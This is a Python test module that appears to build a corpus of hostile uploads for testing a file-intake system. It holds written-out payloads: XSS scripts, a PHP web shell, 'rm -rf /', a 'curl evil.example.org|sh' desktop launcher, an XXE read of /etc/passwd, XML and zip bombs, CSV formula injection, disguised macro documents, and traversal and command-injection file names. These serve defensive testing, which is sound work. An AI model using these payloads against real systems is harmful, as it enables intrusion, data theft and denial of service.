"""Files as somebody sends them who wants to run something, to see something, or to bring the installation down."""

import random
import struct
import zlib
from collections.abc import Iterator
from functools import cache

from tests.corpus.building import (
    OFFICE,
    PICTURES,
    archive,
    chunk,
    jpeg_with,
    office,
    pdf,
    picture,
    png_with,
    sound_file,
)
from tests.corpus.reaching import reaching
from tracker.rules.files import FILE_TYPES

Sent = tuple[str, bytes]
"""What a file is called, and what is in it."""

HTML = b"<!doctype html><html><script>alert(document.cookie)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
PE = b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff" + b"\0" * 200 + b"PE\0\0"
ELF = b"\x7fELF\x02\x01\x01" + b"\0" * 200
SHELL = b"#!/bin/sh\nrm -rf /\n"
BOMB = (
    b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "bbbbbbbb">'
    + b"".join(b'<!ENTITY %c "%s">' % (99 + n, b"&%c;" % (98 + n) * 20) for n in range(9))
    + b"]><a>&k;</a>"
)
OUTSIDE = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
PHP = b"<?php system($_GET['c']); ?>"
JAVASCRIPT = b"<script src=//evil.example.org/x.js></script>"
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
LINK = b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F" + b"\0" * 60
DESKTOP = b"[Desktop Entry]\nType=Application\nExec=sh -c 'curl evil.example.org|sh'\n"

DANGERS = (HTML, SVG, PE, ELF, SHELL, BOMB, OUTSIDE, PHP, JAVASCRIPT)
PROGRAMS = (
    *("exe", "dll", "scr", "com", "bat", "cmd", "ps1", "vbs", "js", "jse", "wsf", "hta"),
    *("jar", "msi", "lnk", "desktop", "sh", "py", "pl", "rb", "php", "html", "htm", "xhtml"),
    *("shtml", "svg", "svgz", "xml", "xsl", "mht", "docm", "xlsm", "pptm", "dotm", "xltm", "doc"),
    *("xls", "ppt", "rtf", "iso", "img", "dmg", "apk", "swf", "chm", "url", "reg", "scf"),
    *("inf", "cpl", "one", "vhd", "7z", "rar", "gz", "tar", "bz2", "xz", "cab", "htaccess"),
    *("library-ms", "appref-ms"),
)
NAMES = (
    *(
        "../../../etc/cron.d/x.txt",
        "/etc/passwd.txt",
        "..\\..\\windows\\x.txt",
        "C:\\Users\\Amina\\x.txt",
        "....//x.txt",
    ),
    *("x\x00.jpg.txt", "x.txt\x00.exe", "a\r\nSet-Cookie: x=1.txt", 'a"; filename="b.html.txt', "photo\u202egpj.exe"),
    *("photo\u202etxt.txt", "x\u200b.txt", "\ufeffx.txt", "x" * 5000 + ".txt", "x." + "txt" * 200, ".txt", "..txt"),
    *("<script>alert(1)</script>.txt", "{{7*7}}.txt", "%2e%2e%2fx.txt", "CON.txt", "x.txt::$DATA", "x.jpg.exe"),
    *(
        "x.txt.",
        "x.txt ",
        "x\u2215y.txt",
        "\uff0e\uff0e\uff0fx.txt",
        "$(reboot).txt",
        "`id`.txt",
        "'; DROP TABLE x;--.txt",
    ),
    *("\U0001f480.txt", "x.TXT", "ក្រុម.txt", "\x1b[2J.txt", "-rf.txt", "~/.ssh/id.txt", "x.txt/", "file.txt;x.html"),
    *("txt", "x.exe.txt", "'; DROP TABLE x;--.txt"),
)


@cache
def hostile() -> tuple[Sent, ...]:
    """All of them: the same each time."""
    makers = (programs, lies, names, empty, polyglots, bombs, broken, with_programs, papers, reaching_out)
    return tuple(sent for make in makers for sent in make())


def programs() -> Iterator[Sent]:
    contents = {"lnk": LINK, "desktop": DESKTOP, "sh": SHELL, "svg": SVG, "com": EICAR, "xml": BOMB}
    for ending in PROGRAMS:
        yield f"x.{ending}", contents.get(ending, HTML if "h" in ending else PE)


def lies() -> Iterator[Sent]:
    for ending in FILE_TYPES:
        for number, danger in enumerate(DANGERS):
            yield f"lie-{number}.{ending}", danger


def names() -> Iterator[Sent]:
    for name in NAMES:
        yield name, b"All is quiet.\n"


def empty() -> Iterator[Sent]:
    for ending in FILE_TYPES:
        yield f"empty.{ending}", b""


def polyglots() -> Iterator[Sent]:
    zipped = archive({"x.html": HTML})
    yield "gif-and-script.gif", b"GIF89a=1;alert(1);//" + b"\0" * 20
    for ending in PICTURES:
        yield f"and-html.{ending}", picture(ending) + HTML
    yield "and-zip.jpg", picture("jpg") + zipped
    yield "and-html.pdf", pdf() + HTML
    yield "html-first.pdf", HTML + pdf()
    yield "and-zip.pdf", pdf() + zipped
    yield "pdf-in-zip.zip", zipped + pdf()
    yield "words.png", png_with(chunk(b"tEXt", b"Comment\0" + HTML))
    yield "words.jpg", jpeg_with((0xFE, HTML), (0xE1, b"http://ns.adobe.com/xap/1.0/\0" + SVG))
    yield "script.eml", b"From: a@example.org\r\nContent-Type: text/html\r\n\r\n" + HTML
    yield "eicar.txt", EICAR
    yield "desktop.txt", DESKTOP
    yield "utf-16.txt", "<html><script>alert(1)</script>".encode("utf-16")
    yield "formula.csv", b"=cmd|' /C calc'!A0\n"


@cache
def bombs() -> tuple[Sent, ...]:
    """Small files of which a reader makes much."""
    return tuple(_bombs())


def _bombs() -> Iterator[Sent]:
    big = (60_000, 60_000)
    yield "pixels.png", png_with(size=big)
    yield "pixels.gif", picture("gif")[:6] + struct.pack("<HH", 65_535, 65_535) + picture("gif")[10:]
    jpeg = picture("jpg")
    place = jpeg.index(b"\xff\xc0") + 5
    yield "pixels.jpg", jpeg[:place] + struct.pack(">HH", 65_500, 65_500) + jpeg[place + 4 :]
    width = struct.pack("<HHI", 256, 4, 1)
    yield "pixels.tif", picture("tif").replace(width + struct.pack("<I", 24), width + struct.pack("<I", 9_999_999))
    packed = zlib.compress(b"\0" * 80_000_000, 9)
    yield "words.png", png_with(chunk(b"zTXt", b"Comment\0\0" + packed))
    yield "colours.png", png_with(chunk(b"iCCP", b"x\0\0" + packed))
    yield "frames.gif", picture("gif", (900, 900), frames=80)
    zeros = archive({f"{n}.bin": b"\0" * 20_000_000 for n in range(3)})
    yield "zeros.zip", zeros
    yield "in-itself.zip", archive({"a.zip": archive({"b.zip": zeros})})
    for ending in OFFICE:
        yield f"xml.{ending}", office(ending, {"word/x.xml": BOMB, "x.xml": BOMB})
        yield f"outside.{ending}", office(ending, {"x.xml": OUTSIDE})
    yield "zeros.docx", office("docx", {f"word/{n}.xml": b" " * 60_000_000 for n in range(4)})
    yield "parts.docx", office("docx", {f"word/{n}.xml": "<a/>" for n in range(5_500)})
    yield "deep.docx", office("docx", {"word/deep.xml": b"<a>" * 100_000 + b"</a>" * 100_000})
    yield "paths.docx", office("docx", {"../../../etc/x.xml": "<a/>", "/etc/y.xml": "<a/>"})


def broken() -> Iterator[Sent]:
    chance = random.Random(7)
    for ending in (*PICTURES, *OFFICE, "pdf"):
        whole = sound_file(ending)
        for cut in (0.4, 0.9):
            yield f"cut-{cut}.{ending}", whole[: max(12, int(len(whole) * cut))]
        flipped = bytearray(whole)
        for place in range(12, len(flipped), 9):
            flipped[place] = chance.randrange(256)
        yield f"flipped.{ending}", bytes(flipped)


TYPES = '<Types><Override PartName="/word/fonts/font1.ttf" ContentType="application/vnd.{}"/></Types>'
RELATION = (
    '<x><Relationship Id="r" Type="http://schemas.microsoft.com/office/2006/relationships/{}" Target="f.ttf"/></x>'
)
DISGUISED: dict[str, tuple[str, dict[str, bytes | str]]] = {
    "said to be macros": ("docx", {"[Content_Types].xml": TYPES.format("ms-office.vbaProject"), "word/f.ttf": PE}),
    "said so in other letters": (
        "docx",
        {"[content_types].xml": TYPES.format("ms-word.document.macroEnabled.main+xml").encode("utf-16")},
    ),
    "old macros": ("xlsx", {"[Content_Types].xml": TYPES.format("ms-excel.macrosheet+xml")}),
    "related as macros": ("docx", {"word/_rels/document.xml.rels": RELATION.format("vbaProject"), "word/f.ttf": PE}),
    "a control": ("docx", {"word/activeX/activeX1.xml": "<ocx/>"}),
}
"""Programs in documents, under other names."""


def with_programs() -> Iterator[Sent]:
    yield "macros.docx", office("docx", {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})
    yield "macros.xlsx", office("xlsx", {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"})
    yield "old-macros.xlsx", office("xlsx", {"xl/macrosheets/sheet1.xml": "<a/>"})
    yield "basic.odt", office("odt", {"Basic/Standard/Module1.xml": "<a/>"})
    yield "scripts.ods", office("ods", {"Scripts/python/x.py": "import os"})
    enabled = '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
    yield "enabled.docx", office("docx", {"[Content_Types].xml": enabled})
    for name, (ending, parts) in DISGUISED.items():
        yield f"{name}.{ending}", office(ending, parts)
    yield "other.docx", archive({"x.exe": PE})
    yield "other.ods", archive({"x.exe": PE})


def reaching_out() -> Iterator[Sent]:
    """One in three: each is tried by itself, too."""
    for number, (_what, ending, data) in list(enumerate(reaching()))[::3]:
        yield f"reaching-{number}.{ending}", data


CIRCLE = (
    b"%PDF-1.4\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n"
    b"2 0 obj\n<</Type/Pages/Kids[2 0 R]/Count 9>>\nendobj\ntrailer<</Root 1 0 R>>"
)


def papers() -> Iterator[Sent]:
    runs = b"/Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >>"
    yield "exif.jpg", jpeg_with(*[(0xE1, b"Exif\0\0" + b"A" * 60_000)] * 20)
    yield "starts.pdf", pdf().replace(b"/Type /Catalog", runs)
    yield "deep.pdf", b"%PDF-1.4\n1 0 obj\n" + b"[" * 50_000 + b"]" * 50_000 + b"\nendobj\ntrailer<</Root 1 0 R>>"
    yield "circle.pdf", CIRCLE
    yield "nothing.pdf", b"%PDF-1.4\n"
